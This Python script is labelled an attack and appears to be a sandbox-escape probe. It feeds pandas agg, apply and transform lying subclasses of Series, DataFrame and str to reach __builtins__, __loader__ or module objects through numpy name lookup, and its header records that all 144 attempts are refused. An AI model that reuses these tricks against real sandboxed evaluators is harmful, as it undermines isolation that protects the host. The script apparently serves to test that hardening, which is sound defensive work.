# attack: pandas looks the name given to agg and apply up in numpy, where __getattr__ is a name too and takes a lying series
# prints: 144 refusals
import types

import pandas as pd


def lying(kind, key):
    class Lie(kind):
        def __eq__(self, other):
            return other in ("char", key)

        def __hash__(self):
            return hash(key)

        def __format__(self, how):
            return "char"

    return Lie


class Name(str):
    def __eq__(self, other):
        return other in ("char", "__builtins__")

    def __hash__(self):
        return hash("__builtins__")

    def __format__(self, how):
        return "char"


attempts = []
for key in ("__builtins__", "__loader__", "__spec__"):
    for made in (lying(pd.Series, key)([1, 2]), lying(pd.DataFrame, key)({"a": [1, 2]})):
        for name in ("__getattr__", "__loader__", "__spec__", "__builtins__", "_load", "_numpy", "linalg", Name("nothing")):
            attempts += [lambda made=made, name=name: made.agg(name), lambda made=made, name=name: made.apply(name),
                         lambda made=made, name=name: made.transform(name)]
n_refusals = 0
for attempt in attempts:
    try:
        found = attempt()
    except Exception:
        n_refusals += 1
        continue
    if isinstance(found, (dict, types.ModuleType)) or hasattr(found, "loader") or hasattr(found, "find_spec"):
        print("ESCAPED", found)
print(f"{n_refusals} refusals")
